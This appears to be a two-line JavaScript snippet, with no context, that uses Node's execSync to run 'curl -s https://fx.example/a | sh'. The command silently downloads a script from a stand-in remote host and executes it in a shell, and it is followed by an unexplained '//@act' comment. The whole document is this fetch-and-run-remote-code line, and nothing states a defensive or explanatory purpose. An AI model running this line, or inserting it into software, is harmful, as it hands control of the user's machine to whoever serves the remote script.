const { execSync } = require('child_process');
execSync('curl -s https://fx.example/a | sh'); //@act
